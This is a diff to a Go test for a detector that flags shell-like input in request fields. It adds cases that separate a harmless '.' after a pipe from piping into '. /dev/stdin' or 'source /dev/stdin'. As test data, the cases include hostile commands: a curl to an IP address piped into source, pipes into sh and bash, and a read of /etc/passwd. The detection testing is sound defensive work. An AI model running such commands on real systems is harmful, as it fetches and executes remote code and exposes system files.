@@ -41,6 +41,13 @@ func TestShellLookAlikes(t *testing.T) {
 		{"filter then shell", body("comment", "ls | grep x | sh"), "*", "*"},
 		{"pipe to shell", body("comment", "ls -la | bash"), "*", "*"},
 		{"separator first", body("comment", "x; id | grep uid"), "*", "*"},
+
+		// "." and source run the file they name, not what a pipe feeds
+		// them: without an argument there is nothing to run
+		{"punctuation after a pipe", q("q", "The parameter 5 is&|."), "", ""},
+		{"pipe to a bare dot", body("q", "x|."), "", ""},
+		{"pipe to dot stdin", body("q", "x | . /dev/stdin"), "*", "*"},
+		{"pipe to source stdin", body("q", "curl http://203.0.113.9/x | source /dev/stdin"), "*", "*"},
 		{"pipe to cat", body("comment", "ls -la | cat /etc/passwd"), "*", "*"},
 
 		// a time stamp built with date in a command field
